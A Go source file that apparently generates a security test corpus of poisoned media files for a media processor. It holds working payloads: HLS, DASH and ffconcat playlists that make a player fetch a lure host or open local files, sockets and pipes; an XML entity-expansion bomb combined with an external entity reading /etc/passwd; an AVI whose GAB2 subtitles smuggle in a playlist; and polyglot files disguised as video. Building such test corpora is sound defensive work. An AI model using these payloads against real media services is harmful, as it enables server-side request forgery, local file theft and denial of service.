package poison

import (
	"fmt"
	"maps"
	"slices"
	"strings"
)

// documents name other resources: whoever plays them opens those.
func (c *corpus) documents() {
	targets := []string{
		"http://" + c.lures.Host + "/a.ts", "file://" + c.lures.File, c.lures.File, "data:video/mp2t;base64,R0AREABC8CUAAcEAAP8B",
		"concat:" + c.lures.File + "|" + c.lures.File, "subfile,,start,0,end,64,,:" + c.lures.File, "pipe:0",
		"crypto:" + c.lures.File, "async:file:" + c.lures.File, "cache:http://" + c.lures.Host + "/a", "tcp://" + c.lures.Host,
		"udp://" + c.lures.Host, "tls://" + c.lures.Host, "hls+http://" + c.lures.Host + "/a.m3u8", "fd:3", "unix:/run/a", "gopher://" + c.lures.Host + "/",
	}
	for i, target := range targets {
		for _, kind := range slices.Sorted(maps.Keys(forms)) {
			body := strings.ReplaceAll(forms[kind], "%s", target)
			extension := []string{kind, "mp4", "ts", "mkv"}[i%4]
			c.add(kind+" document", fmt.Sprintf("%s-%d.%s", kind, i, extension), Picture, []byte(body))
		}
	}
	for name, body := range map[string]string{
		"meta.mp4":   ";FFMETADATA1\ntitle=x\n[STREAM]\ntitle=y\n[CHAPTER]\nTIMEBASE=1/1000\nSTART=0\nEND=9223372036854775807\ntitle=z\n",
		"index.webm": "WebVTT\n", "a.html": "<html><video src=http://" + c.lures.Host + "/></html>", "a.xml": entities,
		"script.avs": "DirectShowSource(\"" + c.lures.File + "\")\n", "a.vpy": "import vapoursynth\n", "a.txt": strings.Repeat("%05d.png\n", 1000),
		"zip.mp4": "PK\x03\x04\x14\x00\x00\x00\x08\x00", "exe.mp4": "\x7fELF\x02\x01\x01", "pdf.mp4": "%PDF-1.7\n", "gz.mp4": "\x1f\x8b\x08\x00\x00\x00",
		"lavfi.mp4": "movie=" + c.lures.File, "tee.mp4": "[f=mp4]" + c.lures.File, "%05d.mp4": "x", "a.ssa": "[Script Info]\n[Events]\nDialogue: 0,0:00:00.00,9:59:59.99,,,,,,,x\n",
	} {
		c.add("text and other documents", name, Picture, []byte(body))
	}
	c.add("documents within media", "gab2.avi", Picture, []byte(gab2(strings.ReplaceAll(forms["m3u8"], "%s", targets[0]))))
	c.add("documents within media", "id3.ts", Picture, []byte("ID3\x03\x00\x00\x00\x00\x00\x00"+strings.ReplaceAll(forms["m3u8"], "%s", targets[0])))
	c.add("documents within media", "bom.ts", Picture, []byte("\ufeff"+strings.ReplaceAll(forms["m3u8"], "%s", targets[0])))
	c.add("documents within media", "tail.ts", Picture, append([]byte(strings.ReplaceAll(forms["m3u8"], "%s", targets[0])), c.of("a.ts").data...))
}

// forms are kinds of documents; %s is what they name.
var forms = map[string]string{
	"m3u8": "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-KEY:METHOD=AES-128,URI=\"%s\"\n#EXT-X-MAP:URI=\"%s\"\n#EXTINF:1,\n%s\n#EXT-X-ENDLIST\n",
	"mpd": `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT9S"><Period>` +
		`<AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>%s</BaseURL><SegmentBase/></Representation></AdaptationSet></Period></MPD>`,
	"ffconcat": "ffconcat version 1.0\noption safe 0\nfile '%s'\nfile %s\n",
	"sdp":      "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\na=control:%s\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n",
	"asx":      "[Reference]\nRef1=%s\n",
	"imf": `<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>urn:uuid:0</Id>` +
		`<SegmentList><Segment><SequenceList><MainImageSequence><Path>%s</Path></MainImageSequence></SequenceList></Segment></SegmentList></CompositionPlaylist>`,
	"smil": `<smil><body><video src="%s"/></body></smil>`,
}

const entities = `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "xxxxxxxxxx"><!ENTITY y "&x;&x;&x;&x;&x;&x;&x;&x;"><!ENTITY z "&y;&y;&y;&y;&y;&y;&y;&y;">` +
	`<!ENTITY f SYSTEM "file:///etc/passwd">]><a>&z;&f;</a>`

// gab2 is an AVI file whose subtitles are a whole other file, which libavformat
// opens with a demuxer of that file's choice.
func gab2(inner string) string {
	header := func(kind string) string {
		return riff("strh", kind+"MJPG"+strings.Repeat("\x00", 12)+le32(1)+le32(25)+le32(0)+le32(1)+strings.Repeat("\x00", 20))
	}
	bitmap := le32(40) + le32(64) + le32(64) + "\x01\x00\x18\x00" + "MJPG" + strings.Repeat("\x00", 20)
	text := "GAB2\x00\x02\x00" + le32(2) + "x\x00\x04\x00" + le32(uint32(len(inner))) + inner
	return "RIFF" + le32(1<<16) + "AVI " +
		riff("LIST", "hdrl"+riff("avih", le32(40000)+strings.Repeat("\x00", 20)+le32(2)+strings.Repeat("\x00", 28))+
			riff("LIST", "strl"+header("vids")+riff("strf", bitmap))+
			riff("LIST", "strl"+header("txts")+riff("strf", ""))) +
		riff("LIST", "movi"+riff("01tx", text)+riff("00dc", "\xff\xd8\xff\xd9")+riff("01tx", text))
}
